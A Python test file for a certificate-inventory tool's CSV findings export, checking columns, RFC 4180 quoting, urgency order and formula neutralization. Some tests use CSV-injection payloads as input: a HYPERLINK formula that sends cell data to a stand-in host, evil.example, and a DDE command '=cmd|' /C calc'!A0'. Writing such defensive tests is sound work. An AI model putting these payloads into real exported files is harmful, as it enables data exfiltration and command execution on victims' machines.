"""Findings as CSV: columns, RFC 4180 quoting, urgency order and formula neutralization."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from invsync.agent.model.findings import (
    CATALOGUE,
    FINDING_FIELDS,
    Finding,
    Severity,
    make_finding,
)
from invsync.agent.report.render.csv import CERTIFICATE_COLUMNS, findings_csv, safe_cell
from invsync.agent.report.render.text import by_urgency
from tests.report_helpers import (
    DV_BUG,
    OV_BUG,
    demo_body,
    demo_findings,
    hostile_findings,
    hostile_record,
)

OV_SUBJECT = (
    "CN=JPRS Organization Validation Authority - G3,O=Japan Registry Services Co.\\, Ltd.,C=JP"
)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_header_is_the_finding_fields_in_order_then_the_certificate_and_what_to_do() -> None:
    text = findings_csv([])
    assert text == (
        "code,severity,sha256,subject,party,policy,due,message,related,first_seen,"
        "acknowledged_by,acknowledged_until,acknowledgement_reason,"
        "issuer,serial,not_before,not_after,action\r\n"
    )
    header = tuple(next(csv.reader(io.StringIO(text))))
    assert header[:-8] == tuple(f for f in FINDING_FIELDS if f != "acknowledgement")


def test_the_report_s_certificates_fill_issuer_serial_validity_and_what_to_do() -> None:
    body = demo_body()
    rows = _rows(findings_csv(body.findings, body.certificates))
    missing = next(
        r for r in rows if r["code"] == "missing-at-subordinate" and r["sha256"] == OV_BUG
    )
    assert (
        missing["issuer"]
        == "OU=Security Communication RootCA2,O=SECOM Trust Systems CO.\\,LTD.,C=JP"
    )
    assert missing["serial"] == "22B9B172FA931A5B74"
    assert (missing["not_before"], missing["not_after"]) == (
        "2020-07-10T04:48:56Z",
        "2029-05-29T05:00:39Z",
    )
    assert missing["action"] == CATALOGUE["missing-at-subordinate"].action
    assert missing["message"] == "secom issued it to jprs, which does not list it"


def test_a_report_without_certificates_leaves_their_columns_empty() -> None:
    (row, *_) = _rows(findings_csv(demo_findings()))
    assert [row[name] for name in CERTIFICATE_COLUMNS] == ["", "", "", ""]
    assert row["action"]  # what to do comes from the catalogue, not the body


def test_real_incident_findings_round_trip_most_urgent_first() -> None:
    findings = demo_findings()
    rows = _rows(findings_csv(findings))
    assert [(r["severity"], r["code"], r["sha256"]) for r in rows] == [
        (f.severity.value, f.code, f.sha256) for f in by_urgency(findings)
    ]
    assert [r["severity"] for r in rows] == sorted(
        (r["severity"] for r in rows), key=lambda name: Severity(name).rank
    )
    by_key = {(r["code"], r["sha256"]): r for r in rows}
    missing = by_key["missing-at-subordinate", OV_BUG]
    assert by_key["missing-at-subordinate", DV_BUG]["severity"] == "error"
    # The real subject holds a comma and a backslash: quoted, read back exactly.
    assert missing["subject"] == OV_SUBJECT
    assert missing["due"] == "2020-07-17T04:48:56Z"
    assert missing["policy"] == "Mozilla Root Store Policy 5.3.2"
    assert missing["related"] == ""
    doppelganger = by_key["doppelganger-untracked", OV_BUG]
    (finding,) = [f for f in findings if f.code == "doppelganger-untracked" and f.sha256 == OV_BUG]
    assert doppelganger["related"] == ";".join(finding.related)
    assert len(finding.related) == 2
    assert doppelganger["due"] == ""


def test_quotes_commas_and_newlines_are_quoted_per_rfc_4180() -> None:
    finding = next(f for f in demo_findings() if f.code == "missing-at-subordinate")
    tricky = replace(finding, message='say "hi",\r\nnext line')
    text = findings_csv([tricky])
    assert '"say ""hi"",\r\nnext line"' in text
    assert f'"{OV_SUBJECT}"' in text
    assert text.endswith("\r\n")
    assert _rows(text)[0]["message"] == 'say "hi",\r\nnext line'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_start_is_neutralized(start: str) -> None:
    assert safe_cell(start + "HYPERLINK(1)") == "'" + start + "HYPERLINK(1)"


def test_harmless_text_is_kept() -> None:
    assert safe_cell("CN=x") == "CN=x"
    assert safe_cell("") == ""
    assert safe_cell(" =1") == " =1"


def test_a_crafted_certificate_subject_cannot_become_a_formula() -> None:
    record = hostile_record()
    (real,) = hostile_findings([record])
    # RFC 4514 text starts with the attribute type; a crafted finding puts a formula first,
    # as a subject read from another source could.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    crafted: Finding = make_finding(
        "missing-at-root", sha256=real.sha256, subject=formula, party="secom", message="-2+3"
    )
    rows = {row["code"]: row for row in _rows(findings_csv([real, crafted]))}
    real_row, crafted_row = rows["missing-at-subordinate"], rows["missing-at-root"]
    assert real_row["subject"] == real.subject  # markup is harmless in a CSV: kept as it is
    assert real_row["subject"].startswith('O=\\"\\>\\<img')
    assert real_row["sha256"] == record.sha256
    assert crafted_row["subject"] == "'" + formula
    assert crafted_row["message"] == "'-2+3"


def test_a_crafted_issuer_or_serial_cannot_become_a_formula() -> None:
    body = demo_body()
    listed = [replace(c, issuer="=cmd|' /C calc'!A0", serial="+1") for c in body.certificates]
    (row, *_) = _rows(findings_csv(body.findings, listed))
    assert (row["issuer"], row["serial"]) == ("'=cmd|' /C calc'!A0", "'+1")
